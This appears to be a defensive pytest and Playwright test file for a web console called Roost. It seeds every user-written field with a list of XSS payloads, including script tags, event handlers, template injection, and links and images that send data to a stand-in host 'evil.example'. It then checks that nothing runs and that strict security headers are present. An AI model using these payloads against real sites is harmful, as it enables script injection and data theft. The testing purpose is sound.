"""Texts of people, models and networks do nothing on any page but stand there, in Chromium."""

import itertools
import json
import time
from collections import defaultdict
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from playwright.sync_api import Browser, Page

from roost_platform.console.routes import PAGES
from roost_platform.db import models
from roost_platform.db.base.ids import new_id
from roost_platform.testing.console import (
    ADMIN,
    CalmEngine,
    ConsoleServer,
    an_hour_of,
    engine_session,
    seed,
)
from roost_platform.testing.console.states import add_deliveries, add_sessions

FIRE = "window.fired=1"
# As HTML, as Markdown, as an attribute, as an address, and as what ends each of them early.
ATTACKS = (
    f"<script>{FIRE}</script>",
    f"<img src=x onerror={FIRE}>",
    f"<svg/onload={FIRE}>",
    f"<svg><animate onbegin={FIRE} attributeName=x dur=1s>",
    f'"><script>{FIRE}</script>',
    f"' autofocus onfocus={FIRE} x='",
    f"</script></style></textarea></title><script>{FIRE}</script>",
    "<iframe srcdoc='<script>parent.fired=1</script>'></iframe>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={FIRE}></style>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href=http://evil.example/><link rel=stylesheet href=//evil.example/x.css>",
    "<form action=http://evil.example/><button>x",
    "![x](http://evil.example/p.png?d=secret) ![y][1]\n\n[1]: http://evil.example/q.png",
    f"[x](javascript:{FIRE}) <javascript:{FIRE}> [y](data:text/html,<script>{FIRE}</script>)",
    f'[z](vbscript:x) [t](JaVaScRiPt&colon;{FIRE}) [w](//evil.example "\' onmouseover={FIRE}")',
    f'```{FIRE}"><script>{FIRE}</script>\ncode\n```',
    f"{{{{7*7}}}}{{% print(1) %}}${{{FIRE}}}",
    f"<div hx-get=http://evil.example/ hx-trigger=load hx-on::load={FIRE}>",
    f"<a href='x' hx-on:click={FIRE} data-hx-get=http://evil.example/>x</a>",
    "<!--[if IE]><script>x</script><![endif]--><!-- ",
    f"\u2028\u2029\u202e<scr\u0000ipt>{FIRE}</scr\u0000ipt>".replace("\u0000", ""),
)
TEXT = "\n\n".join(ATTACKS)
# Columns and fields that Roost itself writes and reads; all others may hold anybody's words.
OURS = {
    *("access", "account", "bot_id", "call_id", "channel", "code", "effect", "event_id", "finish"),
    *("hash", "id", "key", "kind", "nonce", "note_kind", "origin", "outcome", "password_hash"),
    *("phase", "prev_hash", "reason_code", "receipt", "role", "salt", "seal", "service", "sha256"),
    *("state", "status", "token_hash", "tool_call_id", "type", "author", "dedupe_key", "settings"),
    *("asked", "concluded", "owner", "drop_words", "buttons", "figures", "engine", "data"),
}


def infected(name: str, value: Any, turn: "itertools.count[int]") -> Any:
    """The value with attacks in the place of each text that is not ours: the next two in turn,
    since a page with all of them everywhere takes its time and is then shown plain.
    """
    if name in OURS or name.endswith("_id"):
        return value
    if isinstance(value, str):
        number = next(turn)
        return "\n\n".join((*(ATTACKS * 2)[number % len(ATTACKS) :][:2], str(number)))
    if isinstance(value, list):
        return [infected(name, one, turn) for one in value]
    if isinstance(value, dict):
        return {key: infected(key, one, turn) for key, one in value.items()}
    return value


async def infect(server: ConsoleServer) -> int:
    """Put the attacks into every text of every row; returns how many columns had some."""
    reached: set[tuple[str, str]] = set()
    turns: dict[tuple[str, str], itertools.count[int]] = defaultdict(itertools.count)
    async with server.stores.database.write() as session:
        for table in models.Base.metadata.sorted_tables:
            if table.name in ("audit", "audit_anchor", "operator_sessions"):
                continue  # written by their own stores below
            rows = (
                (await session.execute(sa.select(sa.literal_column("rowid").label("place"), table)))
                .mappings()
                .all()
            )
            for row in rows:
                changed = {
                    name: new
                    for name, value in row.items()
                    if name in table.columns
                    and not table.columns[name].primary_key
                    and not table.columns[name].foreign_keys
                    and (new := infected(name, value, turns[table.name, name])) != value
                }
                if changed:
                    reached |= {(table.name, name) for name in changed}
                    statement = sa.update(table).where(sa.text("rowid = :at")).values(changed)
                    await session.execute(statement, {"at": row["place"]})
    return len(reached)


async def add_file(server: ConsoleServer, conversation: str) -> None:
    async with server.stores.database.write() as session:
        session.add(
            models.Artifact(
                id=new_id(),
                conversation_id=conversation,
                origin="inbound",
                channel="telegram",
                account="42",
                kind="document",
                name="x",
                mime_type="text/html",
                size=1,
                state="failed",
                reason="x",
                next_at=0.0,
                created_at=time.time(),
            )
        )


@pytest.fixture(scope="module")
def hostile(
    sqlite_template: Path, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[ConsoleServer, dict[str, str]]]:
    """A console where every text that somebody else wrote attacks its reader."""
    path = tmp_path_factory.mktemp("hostile") / "roost.db"
    path.write_bytes(sqlite_template.read_bytes())
    engine, now = CalmEngine(), time.time()
    engine.sessions = [engine_session(f"{TEXT} {number}", number) for number in range(3)]
    with ConsoleServer(f"sqlite:///{path}", engine=engine).serving() as server:
        ids = server.run(seed(server.stores, now))
        ids |= server.run(add_sessions(server.stores, now))
        ids |= server.run(add_deliveries(server.stores, now))[1]
        server.run(server.intake.say("trial", TEXT))
        server.run(add_file(server, ids["ada"]))
        server.run(server.stores.audit.write(TEXT, "test", TEXT, {"why": TEXT}, TEXT))
        assert server.run(infect(server)) > 30
        assert server.watch is not None
        an_hour_of(server.watch, now)
        yield server, ids


def paths(ids: dict[str, str]) -> list[str]:
    """Every page, those of one thing for each kind of it, and what an address itself says."""
    found = [
        page.path
        for page in PAGES
        if "{" not in page.path and page.path not in ("/sandbox", "/patterns")
    ]
    found += [f"/sessions/{ids[name]}" for name in ("ada", "tool")]
    found += [f"/sessions/{ids['renewed']}?number=1"]
    found += [f"/deliveries/{ids[name]}" for name in ("failed", "doubt")]
    attack = "%22%3E%3Cscript%3Ewindow.fired%3D1%3C/script%3E"
    found += ["/chat/trial", f"/chat?name={attack}", f"/sessions?q={attack}&channel={attack}"]
    found += [f"/people?q={attack}", f"/deliveries?q={attack}&state={attack}", f"/audit?q={attack}"]
    return [*found, f"/{attack}", f"/sessions/{attack}", f"/deliveries/{attack}"]


def look(page: Page, dialogs: list[str], path: str) -> None:
    """Nothing may have run, and nothing may be there that could."""
    handlers = (
        "() => [...document.querySelectorAll('*')].flatMap(e => [...e.attributes])"
        ".filter(a => /^on|^hx-on|srcdoc/.test(a.name)).length"
    )
    assert page.evaluate(handlers) == 0, path
    assert page.evaluate("() => window.fired") is None, path
    assert page.evaluate("() => document.querySelectorAll('iframe, object, embed').length") == 0
    assert page.evaluate("() => document.querySelectorAll('script:not([src])').length") == 0, path
    bad = "a => a.filter(e => !/^(https?|mailto|tel):$/.test(e.protocol) && e.href).length"
    assert page.locator("a").evaluate_all(bad) == 0, path
    remote = "a => a.filter(e => e.src && !e.src.startsWith(location.origin)).length"
    assert page.locator("img, script, video, audio").evaluate_all(remote) == 0, path
    assert dialogs == [], path


def test_s15_s7_no_text_runs_or_fetches_anything_on_any_page(
    browser: Browser, seeded: Any, hostile: Any
) -> None:
    server, ids = hostile
    admin = server.sign_in_cookie(ADMIN, "admin")
    watched = seeded.watch(browser, url=server.url, cookie=admin)
    dialogs: list[str] = []

    def seen_dialog(dialog: Any) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    watched.page.on("dialog", seen_dialog)
    seen = 0
    for path in paths(ids):
        page = watched.open(path)
        look(page, dialogs, path)
        seen += "onerror=" in page.content() or "&lt;script" in page.content()
        watched.check()
    assert seen > 12, "the attacks are shown"
    watched.context.close()


def test_s15_answers_of_the_console_forbid_scripts_of_others(hostile: Any) -> None:
    import httpx2

    server, ids = hostile
    admin = server.sign_in_cookie("Somebody careful", "admin")
    with httpx2.Client(base_url=server.url, cookies={admin["name"]: admin["value"]}) as http:
        for path in [*paths(ids), f"/sessions/{ids['ada']}.json", "/overview.json"]:
            answer = http.get(path, headers={"accept": "text/html"})
            policy = answer.headers["content-security-policy"]
            assert "default-src 'none'; script-src 'self';" in policy and "unsafe" not in policy, (
                path
            )
            assert "frame-ancestors 'none'" in policy, path
            assert answer.headers["x-content-type-options"] == "nosniff", path
            if path.endswith(".json"):
                assert answer.headers["content-type"].startswith("application/json")
                assert json.loads(answer.text)
